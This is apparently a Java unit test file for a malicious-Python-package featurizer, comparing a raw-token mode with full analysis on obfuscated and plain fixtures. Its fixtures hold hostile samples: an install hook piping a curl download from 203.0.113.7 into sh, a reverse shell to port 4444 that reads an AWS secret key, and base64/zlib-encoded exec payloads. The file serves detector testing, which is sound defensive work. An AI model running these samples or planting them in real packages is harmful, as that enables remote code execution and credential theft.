package dev.fang.featurize.features;

import static dev.fang.featurize.features.Fixtures.lines;
import static dev.fang.featurize.features.Fixtures.pkg;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/**
 * The raw-tokens featurizer (the seed paper's approach) next to Fang's: on obfuscated code the full featurizer
 * finds what the raw one cannot; on plain code both agree. Fixtures are parsed as text, never executed.
 */
class RawTokensModeTest {

    private static final PackageFeaturizer FULL = new PackageFeaturizer();
    private static final PackageFeaturizer RAW = PackageFeaturizer.rawTokens();

    private static double value(FeatureResult r, String feature) {
        return r.values()[FeatureCatalogue.index(feature)];
    }

    private static double familyTotal(FeatureResult r, Family family) {
        return FeatureCatalogue.family(family).stream().mapToDouble(f -> r.values()[f.index()]).sum();
    }

    @Test
    void shouldExposeWhichUnderstandingAFeaturizerHas() {
        assertThat(RAW.understanding()).isEqualTo(Understanding.RAW_TOKENS);
        assertThat(FULL.understanding()).isEqualTo(Understanding.FULL);
        assertThat(Understanding.RAW_TOKENS.id()).isEqualTo("raw-tokens");
    }

    @Test
    void shouldFindAnAliasedShellCallOnlyWithFullUnderstanding() {
        PackageContents aliased = pkg("setup.py", lines("import os as o", "o.system('id')"));

        assertThat(value(FULL.featurize(aliased), "install_api_cmd_shell")).isEqualTo(1);
        assertThat(value(FULL.featurize(aliased), "install_apiobf_import_alias")).isEqualTo(1);
        assertThat(value(RAW.featurize(aliased), "install_api_cmd_shell")).isZero();
        assertThat(value(RAW.featurize(aliased), "install_apiobf_import_alias")).isZero();
    }

    @Test
    void shouldSeeDynamicLookupsOnlyAsSurfacePatternsInRawMode() {
        PackageContents hidden = pkg("setup.py", lines("getattr(__import__('o'+'s'),'sys'+'tem')('id')"));
        FeatureResult full = FULL.featurize(hidden);
        FeatureResult raw = RAW.featurize(hidden);

        assertThat(value(full, "install_api_cmd_shell")).isEqualTo(1);
        assertThat(value(full, "install_hook_module_level_risky")).isPositive();
        assertThat(value(raw, "install_api_cmd_shell")).isZero();
        assertThat(value(raw, "install_api_command_distinct")).isZero();
        // What the seed's regexes see instead: the detours themselves and the split strings.
        assertThat(value(raw, "install_apiobf_getattr")).isEqualTo(1);
        assertThat(value(raw, "install_apiobf_dynamic_import")).isEqualTo(1);
        assertThat(value(raw, "install_obf_api_references")).isEqualTo(2);
        assertThat(value(raw, "install_obf_string_split")).isPositive();
    }

    @Test
    void shouldFindABase64EncodedUrlOnlyWithFullUnderstanding() {
        // base64 of http://evil.example.com/a.sh
        PackageContents encoded = pkg("pkg/__init__.py", lines("import base64, urllib.request",
                "u = base64.b64decode('aHR0cDovL2V2aWwuZXhhbXBsZS5jb20vYS5zaA==').decode()",
                "urllib.request.urlopen(u)"));
        FeatureResult full = FULL.featurize(encoded);
        FeatureResult raw = RAW.featurize(encoded);

        assertThat(value(full, "import_url_distinct")).isEqualTo(1);
        assertThat(value(full, "import_url_executable_download")).isEqualTo(1);
        assertThat(value(full, "import_dec_urls")).isEqualTo(1);
        assertThat(value(raw, "import_url_distinct")).isZero();
        assertThat(value(raw, "import_url_executable_download")).isZero();
        assertThat(familyTotal(raw, Family.DECODED)).isZero();
        // The decoder applied to a literal is the seed's base-N pattern; the literal itself is no base64 chunk (< 40 chars).
        assertThat(value(raw, "import_obf_base_n")).isEqualTo(1);
        assertThat(value(raw, "import_api_net_http")).isEqualTo(1);
    }

    @Test
    void shouldLeaveDecodedOnlyFeaturesAtZeroOnAnEncodedPayload() {
        // base64 of zlib of "import os\nos.system('id')\n", executed
        PackageContents payload = pkg("setup.py", lines("import base64, zlib",
                "code = zlib.decompress(base64.b64decode('eJzLzC3ILypRyC/myi/WK64sLknN1VDPTFHX5AIAg0EI0w=='))",
                "exec(code)"));
        FeatureResult full = FULL.featurize(payload);
        FeatureResult raw = RAW.featurize(payload);

        assertThat(value(full, "install_dec_payloads")).isEqualTo(1);
        assertThat(value(full, "install_dec_exec_apis")).isPositive();
        assertThat(value(full, "install_api_cmd_shell")).isEqualTo(1);
        assertThat(familyTotal(raw, Family.DECODED)).isZero();
        assertThat(value(raw, "install_api_cmd_shell")).isZero();
        assertThat(value(raw, "install_api_code_eval")).as("exec is written plainly").isEqualTo(1);
        assertThat(value(raw, "install_beh_obfuscated_execution")).as("decode then exec, from the API sequence").isEqualTo(1);
    }

    @Test
    void shouldAgreeWithTheFullFeaturizerOnPlainCode() {
        PackageContents plain = pkg(
                "setup.py", lines("import os",
                        "from setuptools import setup",
                        "from setuptools.command.install import install",
                        "class PostInstall(install):",
                        "    def run(self):",
                        "        os.system('curl -s http://203.0.113.7:8080/x.sh | sh')",
                        "        install.run(self)",
                        "setup(name='demo', version='1.0', cmdclass={'install': PostInstall})"),
                "demo/__init__.py", lines("import os, socket, subprocess",
                        "URL = 'https://evil.example.com/collect'",
                        "def beacon():",
                        "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
                        "    s.connect(('203.0.113.7', 4444))",
                        "    subprocess.call(['/bin/sh', '-i'])",
                        "    return os.environ.get('AWS_SECRET_ACCESS_KEY'), os.getlogin()"));
        FeatureResult full = FULL.featurize(plain);
        FeatureResult raw = RAW.featurize(plain);

        assertThat(value(full, "install_api_cmd_shell")).isEqualTo(1);
        assertThat(value(full, "install_hook_install_subclasses")).isEqualTo(1);
        assertThat(value(full, "import_url_distinct")).isEqualTo(1);
        assertThat(value(full, "import_beh_reverse_shell")).isEqualTo(1);
        assertThat(value(full, "install_flow_recon_commands")).as("curl run by the install hook").isEqualTo(1);
        assertThat(familyTotal(raw, Family.FLOWS)).as("raw tokens follow no values").isZero();
        for (Feature f : FeatureCatalogue.features()) {
            if (f.family() != Family.FLOWS) {
                assertThat(raw.values()[f.index()]).as(f.name()).isEqualTo(full.values()[f.index()]);
            }
        }
    }
}
